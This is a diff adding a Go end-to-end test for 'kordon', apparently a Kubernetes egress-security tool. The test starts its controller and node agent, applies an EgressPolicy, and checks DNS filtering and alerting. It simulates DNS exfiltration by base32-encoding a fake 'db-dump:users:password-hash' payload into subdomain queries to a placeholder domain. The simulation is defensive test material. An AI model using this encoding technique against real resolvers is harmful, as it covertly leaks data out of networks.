@@ -1,0 +1,174 @@
+package e2e
+
+import (
+	"context"
+	"encoding/base32"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/kordon-dev/kordon/internal/kube"
+	"github.com/miekg/dns"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+)
+
+// buildKordon compiles the binary under test.
+func buildKordon(t *testing.T) string {
+	t.Helper()
+	bin := filepath.Join(t.TempDir(), "kordon")
+	out, err := exec.Command("go", "build", "-o", bin, "../cmd/kordon").CombinedOutput()
+	if err != nil {
+		t.Fatalf("go build: %v\n%s", err, out)
+	}
+	return bin
+}
+
+func writeKubeconfig(t *testing.T) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "kubeconfig")
+	cfg := fmt.Sprintf(`apiVersion: v1
+kind: Config
+clusters: [{name: e2e, cluster: {server: %q, insecure-skip-tls-verify: true}}]
+users: [{name: admin, user: {token: %q}}]
+contexts: [{name: e2e, context: {cluster: e2e, user: admin}}]
+current-context: e2e
+`, cluster.URL, cluster.AdminToken)
+	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func freeAddr(t *testing.T) string {
+	t.Helper()
+	p, err := freePort()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return fmt.Sprintf("127.0.0.1:%d", p)
+}
+
+// startProcess runs the binary and stops it at the end of the test.
+func startProcess(t *testing.T, bin string, args ...string) *syncBuffer {
+	t.Helper()
+	var out syncBuffer
+	cmd := exec.Command(bin, args...)
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		cmd.Process.Signal(os.Interrupt)
+		done := make(chan struct{})
+		go func() { cmd.Wait(); close(done) }()
+		select {
+		case <-done:
+		case <-time.After(10 * time.Second):
+			cmd.Process.Kill()
+			<-done
+		}
+		if t.Failed() {
+			t.Logf("%s output:\n%s", args[0], out.String())
+		}
+	})
+	return &out
+}
+
+func waitReady(t *testing.T, url string) {
+	t.Helper()
+	eventually(t, 60*time.Second, url+" ready", func() bool {
+		resp, err := http.Get(url)
+		if err != nil {
+			return false
+		}
+		resp.Body.Close()
+		return resp.StatusCode == http.StatusOK
+	})
+}
+
+// TestControllerAndNodeAgent runs the real binaries against the API
+// server: the controller elects itself, writes policy status and serves
+// the alert feed; the node agent filters DNS for the pods of its node by
+// the EgressPolicies in the API, detects an exfiltration, and forwards
+// the alert to the controller's feed.
+func TestControllerAndNodeAgent(t *testing.T) {
+	bin := buildKordon(t)
+	kubeconfig := writeKubeconfig(t)
+	sysNS := newNamespace(t)
+	ctrlHTTP := freeAddr(t)
+	startProcess(t, bin, "controller", "--kubeconfig", kubeconfig, "--namespace", sysNS, "--root-namespace", sysNS,
+		"--xds-listen", "127.0.0.1:0", "--issuance-listen", "127.0.0.1:0", "--http-listen", ctrlHTTP,
+		"--alerts-dir", t.TempDir(), "--pod-name", "controller-0")
+	waitReady(t, "http://"+ctrlHTTP+"/readyz")
+
+	ns := newNamespace(t)
+	createPolicy(t, kube.AuthorizationPolicyGVR, ns, fmt.Sprintf("apiVersion: security.kordon.dev/v1\nkind: AuthorizationPolicy\nmetadata: {name: p, namespace: %s}\nspec:\n  rules: [{}]\n", ns))
+	eventually(t, 40*time.Second, "policy status written by the leader", func() bool {
+		u, err := clients.Dynamic.Resource(kube.AuthorizationPolicyGVR).Namespace(ns).Get(context.Background(), "p", metav1.GetOptions{})
+		if err != nil {
+			return false
+		}
+		conds, _, _ := unstructured.NestedSlice(u.Object, "status", "conditions")
+		return len(conds) == 1 && conds[0].(map[string]any)["status"] == "True"
+	})
+
+	createPod(t, ns, "worker-1", "worker", "node-e2e", "127.0.0.91", map[string]string{"app": "worker"})
+	createPolicy(t, kube.EgressPolicyGVR, ns, fmt.Sprintf(`apiVersion: security.kordon.dev/v1
+kind: EgressPolicy
+metadata: {name: worker, namespace: %s}
+spec:
+  selector: {matchLabels: {app: worker}}
+  allow: ["*.reports.example"]
+  detection: {sensitivity: High, action: Alert}
+`, ns))
+	upstream := startUpstream(t)
+	dnsAddr, nodeHTTP := freeAddr(t), freeAddr(t)
+	startProcess(t, bin, "node", "--kubeconfig", kubeconfig, "--node", "node-e2e", "--dns-listen", dnsAddr, "--upstream", upstream,
+		"--http-listen", nodeHTTP, "--state-dir", t.TempDir(), "--controller-http", "http://"+ctrlHTTP, "--root-namespace", sysNS, "--log", "")
+	waitReady(t, "http://"+nodeHTTP+"/readyz")
+
+	query := func(name string) *dns.Msg {
+		m := new(dns.Msg)
+		m.SetQuestion(name, dns.TypeA)
+		c := &dns.Client{Timeout: 3 * time.Second, Dialer: &net.Dialer{LocalAddr: &net.UDPAddr{IP: net.ParseIP("127.0.0.91")}}}
+		r, _, err := c.Exchange(m, dnsAddr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	// The policy may reach the agent a moment after it starts.
+	eventually(t, 20*time.Second, "egress policy enforced for the pod", func() bool { return query("github.com.").Rcode == dns.RcodeNameError })
+	if r := query("q1.reports.example."); r.Rcode != dns.RcodeSuccess {
+		t.Fatalf("allowed name: %s", dns.RcodeToString[r.Rcode])
+	}
+	enc := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(strings.Repeat("db-dump:users:password-hash;", 60))), "="))
+	for i := 0; i < 30 && (i+1)*50 <= len(enc); i++ {
+		query(fmt.Sprintf("%s.%d.reports.example.", enc[i*50:(i+1)*50], i))
+	}
+	eventually(t, 30*time.Second, "the exfiltration alert forwarded to the controller", func() bool {
+		resp, err := http.Get("http://" + ctrlHTTP + "/v1/alerts?kind=exfiltration")
+		if err != nil {
+			return false
+		}
+		defer resp.Body.Close()
+		var body struct {
+			Alerts []struct{ Namespace, Pod, Domain, Node string }
+		}
+		json.NewDecoder(resp.Body).Decode(&body)
+		for _, a := range body.Alerts {
+			if a.Namespace == ns && a.Pod == "worker-1" && a.Domain == "reports.example" && a.Node == "node-e2e" {
+				return true
+			}
+		}
+		return false
+	})
+}
